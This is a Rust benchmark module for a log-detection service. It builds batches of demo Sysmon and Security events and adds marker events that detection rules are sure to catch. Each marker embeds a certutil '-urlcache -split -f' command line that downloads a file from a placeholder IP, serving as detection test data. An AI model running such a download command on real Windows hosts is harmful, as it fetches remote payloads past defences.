//! What the benchmark sends: NDJSON bodies cut from the project's demo data (ordinary Sysmon
//! process starts and network connections, Security logons, and the intrusion the demo rules
//! catch), and marker events that a rule is sure to match, each naming a host of its own so
//! that its alert can be found and is never merged into another one by dedup.

use jiff::{SignedDuration, Timestamp};
use serde_json::json;

/// Distinct events generated at most; a longer run cycles through them.
pub const POOL_EVENTS: usize = 50_000;

/// Request bodies of `batch` events (and of `batch - 1`, to which a marker is added).
pub struct Pool {
    lines: Vec<String>,
    pub batch: usize,
}

impl Pool {
    /// Generates `events` distinct events (at least one batch) with the demo's generator:
    /// an hour of activity on twelve hosts ending at `now`, the security events mixed in
    /// among the Sysmon ones as a collector would forward them.
    pub fn new(now: Timestamp, events: usize, batch: usize) -> Pool {
        let background = events.max(batch).saturating_sub(7).max(1);
        let bodies = vigil_monitor::demo::generate(now, background, 1);
        let mut streams: Vec<Vec<String>> = bodies
            .iter()
            .map(|(_, body)| body.lines().map(str::to_string).collect())
            .collect();
        // Interleave the sources in proportion to their sizes.
        let total: usize = streams.iter().map(Vec::len).sum();
        let mut lines = Vec::with_capacity(total);
        let mut taken = vec![0usize; streams.len()];
        for _ in 0..total {
            // The stream furthest behind its share goes next.
            let next = (0..streams.len())
                .filter(|&s| taken[s] < streams[s].len())
                .min_by(|&a, &b| {
                    let lag = |s: usize| taken[s] as f64 / streams[s].len() as f64;
                    lag(a).total_cmp(&lag(b))
                })
                .expect("lines left while i < total");
            lines.push(std::mem::take(&mut streams[next][taken[next]]));
            taken[next] += 1;
        }
        Pool { lines, batch }
    }

    /// Distinct events in the pool.
    pub fn events(&self) -> usize {
        self.lines.len()
    }

    /// Body number `k` of `batch` events (the pool wraps around).
    pub fn body(&self, k: u64) -> Vec<u8> {
        self.lines_from(k, self.batch)
    }

    /// Body number `k` of `batch - 1` pool events and `marker` last.
    pub fn body_with(&self, k: u64, marker: &str) -> Vec<u8> {
        let mut body = self.lines_from(k, self.batch - 1);
        body.extend_from_slice(marker.as_bytes());
        body.push(b'\n');
        body
    }

    fn lines_from(&self, k: u64, count: usize) -> Vec<u8> {
        let n = self.lines.len();
        let start = (k as usize).wrapping_mul(self.batch) % n;
        let mut body = Vec::with_capacity(count * 600);
        for i in 0..count {
            body.extend_from_slice(self.lines[(start + i) % n].as_bytes());
            body.push(b'\n');
        }
        body
    }
}

/// The host name of marker `n` of run `run`: lowercase letters, digits, dots and dashes only
/// (it goes into a query string unescaped).
pub fn marker_host(run: &str, n: u64) -> String {
    format!("bench-{run}-{n}.marker.example")
}

/// The host name of the marker sent before anything is timed.
pub fn probe_host(run: &str) -> String {
    format!("bench-{run}-probe.marker.example")
}

/// A Sysmon process start of certutil downloading a file through its URL cache (the demo's
/// intrusion step, caught by the example rules and by SigmaHQ's certutil rules) on `host`.
pub fn marker_event(host: &str, n: u64, time: Timestamp) -> String {
    json!({
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Hostname": host,
        "SourceName": "Microsoft-Windows-Sysmon",
        "TimeCreated": time.to_string(),
        "ProcessId": (4000 + n % 50_000).to_string(),
        "Image": r"C:\Windows\System32\certutil.exe",
        "CommandLine": format!(r"certutil.exe -urlcache -split -f http://203.0.113.66/m{n}.dat C:\Users\Public\m{n}.dat"),
        "User": "CORP\\bench",
        "IntegrityLevel": "Medium",
        "ParentImage": r"C:\Windows\System32\cmd.exe",
    })
    .to_string()
}

/// A short tag that keeps this run's marker hosts apart from any earlier run's.
pub fn run_tag(now: Timestamp) -> String {
    format!("{:x}", now.as_millisecond() % 0xff_ffff)
}

/// `since` for the alert poll: a second before `t`, to be safe against rounding.
pub fn just_before(t: Timestamp) -> Timestamp {
    t - SignedDuration::from_secs(1)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bodies_hold_batch_lines_of_json_and_markers_are_last() {
        let now: Timestamp = "2026-12-02T12:00:00Z".parse().unwrap();
        let pool = Pool::new(now, 500, 100);
        assert_eq!(pool.events(), 500);
        let body = String::from_utf8(pool.body(7)).unwrap();
        assert_eq!(body.lines().count(), 100);
        for line in body.lines() {
            let v: serde_json::Value = serde_json::from_str(line).unwrap();
            assert!(v["EventID"].is_u64(), "{line}");
        }
        // Both sources are in the mix, not one after the other.
        let first = String::from_utf8(pool.body(0)).unwrap();
        assert!(first.contains("\"Channel\":\"Security\""));
        assert!(first.contains("Sysmon/Operational"));
        let host = marker_host("abc", 3);
        let marker = marker_event(&host, 3, now);
        let marked = String::from_utf8(pool.body_with(7, &marker)).unwrap();
        assert_eq!(marked.lines().count(), 100);
        assert_eq!(marked.lines().last(), Some(marker.as_str()));
        assert!(marker.contains("\"Hostname\":\"bench-abc-3.marker.example\""));
    }
}
